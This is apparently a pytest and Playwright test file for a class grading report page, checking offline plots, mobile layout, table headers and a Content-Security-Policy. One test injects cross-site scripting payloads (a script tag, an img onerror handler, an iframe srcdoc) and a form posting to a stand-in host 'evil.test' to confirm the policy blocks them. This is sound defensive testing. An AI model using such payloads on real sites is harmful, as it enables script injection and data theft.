"""The class at a glance in the browser: one file, no network, drawn plots with tables beside them, also on a phone."""

import shutil
from pathlib import Path

import pytest
from playwright.sync_api import expect

from grading.course.folder import Course
from grading.report.page import report


@pytest.fixture(scope="module")
def written(browser, classroom, tmp_path_factory) -> Path:
    """The report of the class in which everything happens."""
    root = tmp_path_factory.mktemp("report") / "course"
    return report(Course(Path(shutil.copytree(classroom.course.root, root))), "averages", False)


def test_plots_are_drawn_without_network_or_errors(opened):
    page, complaints = opened
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
    assert complaints == []


def test_its_policy_stops_every_script_but_its_own(browser, written, tmp_path):
    """A text of a student's that came through unescaped would do nothing; without the policy, it would."""
    page = written.read_text(encoding="utf-8")
    acts = "window.pwned = true"
    hostile = f'<script>{acts}</script><img src="x" onerror="{acts}">'
    hostile += f'<iframe srcdoc="<script>parent.{acts}</script>"></iframe>'
    hostile += '<form action="https://evil.test"><button id="send">Send</button></form>'
    start = page.index('<meta http-equiv="Content-Security-Policy"')
    open_page = page[:start] + page[page.index(">", start) + 1 :]
    for text, stopped in ((page, True), (open_page, False)):
        path = tmp_path / f"{stopped}.html"
        path.write_text(text.replace("<main>", f"<main>{hostile}", 1), encoding="utf-8")
        tab, asked = browser.new_page(), []
        tab.on("request", lambda request, asked=asked: asked.append(request.url))
        tab.goto(path.as_uri())
        tab.wait_for_timeout(300)
        assert (tab.evaluate("window.pwned") is None) is stopped
        if stopped:
            # Before the form is sent: Playwright waits for the page that the policy then refuses.
            expect(tab.locator(".js-plotly-plot .main-svg").first).to_be_visible()
        tab.locator("#send").click(no_wait_after=True)
        tab.wait_for_timeout(300)
        assert any("evil.test" in url for url in asked) is not stopped
        tab.close()


def test_the_page_does_not_scroll_sideways(opened):
    page, _ = opened
    assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]


def test_what_the_plots_show_is_in_tables_with_headers(opened):
    page, _ = opened
    tables = page.locator("table")
    assert tables.count() >= 3
    assert tables.evaluate_all("all => all.every(table => table.querySelector('th'))")
    expect(page.locator("h1")).to_have_count(1)


def test_the_page_names_mistakes_and_students_who_need_a_person(opened):
    page, _ = opened
    text = page.locator("body").inner_text()
    assert "The sign of the values is lost." in text and "drops_the_sign" in text
    assert "ends_python" in text and "sends_no_json" in text
